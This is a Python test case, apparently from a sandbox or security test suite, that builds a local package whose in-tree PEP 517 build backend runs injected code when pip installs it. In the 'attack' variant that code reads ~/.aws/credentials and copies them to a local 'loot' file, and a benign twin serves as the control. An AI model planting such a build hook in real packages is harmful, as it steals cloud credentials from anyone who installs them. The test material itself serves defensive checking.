"""X14: installs a package whose build runs code"""
from kit import *

PROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "{name}"
version = "1.0"
"""
# PEP 517: the in-tree backend is called by pip; a wheel is a ZIP archive.
BACKEND = """
import os, zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    {steal}
    name = "{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("{name}.py", "answer = 42")
        wheel.writestr("{name}-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n")
        wheel.writestr("{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("{name}-1.0.dist-info/RECORD", "")
    return name
"""
STEAL = "open({loot!r}, 'w').write(open(os.path.expanduser('~/.aws/credentials')).read())"


def installed(w, name, steal):
    if __import__("importlib.util").util.find_spec("pip") is None:
        missing("no pip in this interpreter")
    source = w.work / name
    source.mkdir(exist_ok=True)
    (source / "pyproject.toml").write_text(PROJECT.format(name=name))
    (source / "backend.py").write_text(BACKEND.format(name=name, steal=steal))
    options = ["--no-index", "--no-deps", "--no-build-isolation", "--disable-pip-version-check", "--root-user-action=ignore"]
    return run(sys.executable, "-m", "pip", "install", *options, "--target", str(w.work / "lib"), str(source))


def attack(w):
    loot = str(w.work / "loot")
    yield "its build", lambda: (installed(w, "kwevil", STEAL.format(loot=loot)), read(loot))[1]


def twin(w):
    yield "a package with a benign build", lambda: installed(w, "kwbenign", "pass")
